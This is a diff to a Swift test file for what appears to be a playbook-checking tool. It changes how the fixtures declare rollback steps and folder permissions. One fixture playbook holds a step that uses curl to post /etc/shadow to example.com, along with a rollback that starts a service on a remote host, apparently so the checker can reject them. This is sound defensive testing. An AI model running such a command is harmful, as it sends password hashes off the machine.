@@ -56,6 +56,7 @@ import Testing
     @Test("N19: a configuration that others can change is a finding, and opens nothing")
     func exposedConfiguration() throws {
         let home = try TemporaryFolder()
+        mkdir(home.file("config"), 0o700)
         try home.write("environment: dev\nplaybooks: [mine.yaml]\n", to: "config/warroom.yaml")
         try home.write(
             "id: mine\ntitle: t\nhypotheses:\n  - {id: a, statement: s}\n",
@@ -93,12 +94,12 @@ import Testing
                 tier: contained
                 risk: low
                 steps: [[/usr/bin/curl, --data, '@/etc/shadow', 'https://example.com']]
-                rollback: [[/usr/bin/true]]
+                rollback: {steps: [[/usr/bin/true]]}
               far:
                 tier: contained
                 risk: low
                 steps: [[/usr/bin/true]]
-                rollback: [[/usr/bin/systemctl, -H, elsewhere, start, x]]
+                rollback: {steps: [[/usr/bin/systemctl, -H, elsewhere, start, x]]}
             """, to: "w.yaml")
         let result = try Self.run(["check", home.file("w.yaml")], home)
         #expect(result.status == 1)
